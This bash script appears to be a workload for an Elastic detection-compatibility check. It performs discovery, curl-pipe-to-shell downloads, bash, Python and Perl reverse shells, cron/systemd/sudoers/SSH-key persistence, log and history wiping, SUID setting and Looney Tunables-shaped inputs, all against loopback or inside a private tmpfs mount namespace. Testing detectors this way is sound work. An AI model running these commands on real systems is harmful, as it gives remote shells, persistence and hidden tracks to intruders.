#!/bin/bash
# Real behaviours for the Elastic compatibility check: what an intruder and an
# administrator do on a Linux host, each performed for real (no simulation),
# with every network peer on loopback and every system file touched only in a
# private mount namespace over tmpfs, so the host is left as it was.
# Takes: a scratch directory ($1). Gives: exit 0; the sensor sees the rest.
set -u
W=${1:?scratch dir}
mkdir -p "$W" && cd "$W" || exit 1
PY=$(command -v python3)
PORT_HTTP=18181 PORT_SHELL=18182
export HOME="$W/home"; mkdir -p "$HOME"

# a loopback web server and a listener for the reverse shells
printf 'id\nuname -a\n' > "$W/payload.sh"
"$PY" -m http.server "$PORT_HTTP" --bind 127.0.0.1 --directory "$W" >/dev/null 2>&1 & HTTP=$!
listen() { "$PY" -c "import socket,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', $PORT_SHELL)); s.listen(8); s.settimeout(20)
for _ in range(int(sys.argv[1])):
    try:
        c,_=s.accept(); c.sendall(b'id\nexit\n'); c.settimeout(2)
        try: c.recv(4096)
        except Exception: pass
        c.close()
    except Exception: break" "$1" & }
listen 4; LISTENER=$!
for _ in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$PORT_HTTP/" && break; sleep 0.1; done

# discovery
id; whoami; uname -a; hostname; cat /etc/os-release >/dev/null; cat /etc/passwd >/dev/null; getent passwd root
ps aux >/dev/null; ss -tlnp >/dev/null 2>&1; ip a >/dev/null 2>&1; cat /proc/version >/dev/null
find /usr/bin -perm -4000 -maxdepth 1 >/dev/null 2>&1; getcap -r /usr/bin >/dev/null 2>&1
sudo -l -n >/dev/null 2>&1; crontab -l >/dev/null 2>&1; systemctl list-units --no-pager >/dev/null 2>&1
cat /proc/1/environ >/dev/null 2>&1; env >/dev/null; printenv >/dev/null; lscpu >/dev/null 2>&1

# download and run: curl | sh, wget to /tmp, execution from /tmp and /dev/shm
curl -s "http://127.0.0.1:$PORT_HTTP/payload.sh" | sh >/dev/null
curl -s "http://127.0.0.1:$PORT_HTTP/payload.sh" | bash >/dev/null
wget -q -O "$W/dl.sh" "http://127.0.0.1:$PORT_HTTP/payload.sh"; sh "$W/dl.sh" >/dev/null
cp /usr/bin/id /tmp/.hidden-id-$$; chmod +x /tmp/.hidden-id-$$; /tmp/.hidden-id-$$ >/dev/null; rm -f /tmp/.hidden-id-$$
cp /usr/bin/id /dev/shm/x-$$; chmod 755 /dev/shm/x-$$; /dev/shm/x-$$ >/dev/null; rm -f /dev/shm/x-$$
echo aWQK | base64 -d | sh >/dev/null
"$PY" -c 'import os; os.system("id")' >/dev/null
perl -e 'system("id")' >/dev/null

# reverse shells to the loopback listener
timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT_SHELL 0>&1" >/dev/null 2>&1
timeout 5 sh -c "sh -i >& /dev/tcp/127.0.0.1/$PORT_SHELL 0>&1" >/dev/null 2>&1
timeout 5 "$PY" -c "import socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',$PORT_SHELL));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])" >/dev/null 2>&1
timeout 5 perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in($PORT_SHELL,inet_aton('127.0.0.1')))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};" >/dev/null 2>&1

# persistence and tampering in a private mount namespace (tmpfs over the real directories)
unshare -m bash -c '
  for d in /etc/cron.d /var/spool/cron /etc/systemd/system /etc/profile.d /etc/update-motd.d /etc/sudoers.d /root/.ssh /etc/init.d /etc/udev/rules.d /var/log; do
    mkdir -p "$d" 2>/dev/null; mount -t tmpfs none "$d" || exit 1
  done
  echo "* * * * * root /tmp/x" > /etc/cron.d/updater
  mkdir -p /var/spool/cron/crontabs; echo "* * * * * /tmp/x" > /var/spool/cron/crontabs/root
  printf "[Service]\nExecStart=/tmp/x\n" > /etc/systemd/system/evil.service
  echo "curl http://127.0.0.1/x | sh" > /etc/profile.d/evil.sh
  echo "id" > /etc/update-motd.d/99-evil; chmod +x /etc/update-motd.d/99-evil
  echo "user ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/evil
  echo "ssh-ed25519 AAAA evil" >> /root/.ssh/authorized_keys
  echo "#!/bin/sh" > /etc/init.d/evil; chmod +x /etc/init.d/evil
  echo "ACTION==\"add\", RUN+=\"/tmp/x\"" > /etc/udev/rules.d/99-evil.rules
  echo log > /var/log/auth.log; rm -f /var/log/auth.log; echo x > /var/log/syslog; truncate -s 0 /var/log/syslog
'
# SUID/SGID set, capabilities, history cleared
cp /usr/bin/id "$W/suid-id"; chmod u+s "$W/suid-id"; chmod 4755 "$W/suid-id"; chmod g+s "$W/suid-id"
setcap cap_setuid+ep "$W/suid-id" 2>/dev/null
touch "$HOME/.bash_history"; rm -f "$HOME/.bash_history"; ln -sf /dev/null "$HOME/.bash_history"
bash -c 'history -c'; bash -c 'unset HISTFILE; export HISTFILESIZE=0'
truncate -s 0 "$HOME/.bash_history" 2>/dev/null
# environment variables the rules read (captured through kernel.envVars): a preloaded library,
# shells told to keep no history, curl through a SOCKS proxy named only in its environment,
# glibc tunables of the Looney Tunables exploit's shape (harmless on a patched glibc), 5 runs
LD_PRELOAD="$W/preload.so" id >/dev/null 2>&1
HISTFILE=/dev/null bash -c true; HISTSIZE=0 bash -c true
ALL_PROXY=socks5h://127.0.0.1:9 curl -s -m 2 -o /dev/null "http://127.0.0.1:$PORT_HTTP/"
for _ in 1 2 3 4 5; do GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true; done
# privilege changes, hidden files, archives, encoded commands
"$PY" -c 'import os; os.setgid(65534); os.setuid(65534)'
setpriv --reuid=65534 --regid=65534 --clear-groups id >/dev/null 2>&1
touch "$W/.hidden"; tar czf "$W/a.tgz" -C "$W" payload.sh; openssl enc -base64 -in "$W/payload.sh" >/dev/null 2>&1
chmod +x "$W/payload.sh"; nohup "$W/payload.sh" >/dev/null 2>&1
mkfifo "$W/f"; rm -f "$W/f"
timeout 2 nc -h >/dev/null 2>&1
wait "$LISTENER" 2>/dev/null
kill "$HTTP" 2>/dev/null; wait "$HTTP" 2>/dev/null
# the marker the collector waits for
/bin/true elastic-compat-workload-done
exit 0
